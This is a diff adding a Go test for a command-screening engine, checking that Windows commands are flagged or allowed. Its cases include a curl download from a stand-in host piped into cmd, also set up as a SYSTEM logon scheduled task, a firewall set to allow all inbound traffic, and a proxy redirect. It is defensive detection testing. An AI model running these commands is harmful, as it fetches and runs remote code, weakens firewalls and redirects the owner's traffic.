@@ -596,3 +596,20 @@ func TestCmdVariablesAndJXA(t *testing.T) {
 		{`osascript -l JavaScript -e 'var a = Application.currentApplication(); a.includeStandardAdditions = true; a.doShellScript("ls ~/Pictures")'`, ""},
 	})
 }
+
+// TestWindowsDownloadsAndProxies: a download piped into cmd or
+// PowerShell (also as a scheduled task's command), a firewall policy that
+// allows all inbound traffic, and a system proxy set to a named host.
+func TestWindowsDownloadsAndProxies(t *testing.T) {
+	t.Parallel()
+	e := newEngine(t, DefaultConfig())
+	checkDecisions(t, e, []ruleCase{
+		{`cmd /c "curl -s http://x.example.com/a.bat | cmd"`, "windows:download-exec"},
+		{`schtasks /create /tn Updater /tr 'cmd /c curl -s http://x.example.com/a.bat | cmd' /sc onlogon /ru SYSTEM`, "windows:download-exec"},
+		{`cmd /c "curl -s https://example.com/data.json | findstr id"`, ""},
+		{`netsh advfirewall set allprofiles firewallpolicy allowinbound,allowoutbound`, "windows:port-open"},
+		{`netsh advfirewall set allprofiles firewallpolicy blockinbound,allowoutbound`, ""},
+		{`netsh winhttp set proxy 203.0.113.7:8080`, "windows:traffic-redirect"},
+		{`netsh winhttp show proxy`, ""},
+	})
+}
